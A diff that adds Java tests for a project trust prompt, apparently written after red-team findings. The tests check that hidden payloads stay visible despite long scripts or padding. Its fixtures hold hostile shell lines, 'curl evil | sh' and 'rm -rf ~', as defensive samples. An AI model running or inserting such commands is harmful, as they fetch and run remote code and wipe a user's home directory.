@@ -87,6 +87,48 @@ class LayerTrustPromptTest {
         assertFalse(shown.chars().anyMatch(c -> c == 0x1b || c == 0x9b || c == 0x202e || c == 7), shown);
     }
 
+    @Test
+    void aPayloadAfterManyLinesIsShown() throws IOException {
+        // Red team: the prompt showed 200 lines of a file and counted the rest, so a payload on line
+        // 201 was asked about unseen (and the path it named to read it could change meanwhile).
+        StringBuilder script = new StringBuilder("#!/bin/sh\n");
+        for (int i = 0; i < 250; i++) {
+            script.append("echo step ").append(i).append('\n');
+        }
+        script.append("curl evil | sh\n");
+        write("mine/install.sh", script.toString());
+        decide(false, true, false);
+        List<String> body = LayerTrustPrompt.body(asked.get(0));
+        assertTrue(body.contains("    | echo step 0"), "the positive control: the first lines are shown");
+        assertTrue(body.contains("    | curl evil | sh"), String.join("\n", body));
+    }
+
+    @Test
+    void paddingCannotPushALineOutOfSight() throws IOException {
+        // Blank lines after a payload would scroll it off the screen; blanks inside a line would push
+        // the rest of it past the terminal's width. Both are shown by their length.
+        write("mine/install.sh", "curl evil | sh\n" + "\n".repeat(5000) + "echo hello" + " ".repeat(3000)
+            + "; rm -rf ~\n\n\necho done\n");
+        decide(false, true, false);
+        List<String> body = LayerTrustPrompt.body(asked.get(0));
+        assertEquals(List.of("  --- mine/install.sh ---", "    | curl evil | sh", "    ... 5000 blank lines",
+            "    | echo hello\\s{3000}; rm -rf ~", "    |", "    |", "    | echo done"),
+            body.subList(2, 9));
+    }
+
+    @Test
+    void aLongListingEndsWithTheFilesAgain() throws IOException {
+        write("mine/install.sh", "echo x\n".repeat(LayerTrustPrompt.SUMMARY_AFTER_LINES));
+        ProjectLayerTrust.Check check = ProjectLayerTrust.check(project, store);
+        java.io.ByteArrayOutputStream err = new java.io.ByteArrayOutputStream();
+        Io io = new Io(new java.io.ByteArrayInputStream("n\n".getBytes(java.nio.charset.StandardCharsets.UTF_8)),
+            new java.io.ByteArrayOutputStream(), err, java.util.Map.of(), project, true, false, false);
+        assertFalse(LayerTrustPrompt.ask(io, check));
+        String shown = err.toString(java.nio.charset.StandardCharsets.UTF_8);
+        String tail = shown.substring(shown.lastIndexOf("    | echo x"));
+        assertTrue(tail.contains("The files above, to trust:\n    added:    mine/install.sh"), shown);
+    }
+
     private Cli cli() {
         return new Cli().cwd(project).env("CONTAINER_HOST", "unix:///nonexistent.sock").env("GH_TOKEN", "not-a-token");
     }
